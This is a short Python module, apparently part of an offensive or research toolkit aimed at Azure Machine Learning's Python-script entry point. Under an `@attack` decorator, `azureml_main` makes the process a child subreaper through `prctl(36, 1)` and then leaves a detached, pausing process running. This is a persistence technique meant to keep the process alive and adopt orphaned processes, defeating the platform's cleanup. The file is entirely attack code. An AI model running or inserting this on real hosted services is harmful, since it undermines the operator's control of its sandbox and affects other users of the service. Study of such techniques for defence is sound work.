"""Becomes the one to whom its orphans come, instead of the process that would end them."""

import signal

from attack import LIBC, attack, detached


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    LIBC.prctl(36, 1, 0, 0, 0)
    detached(signal.pause)
    return ""
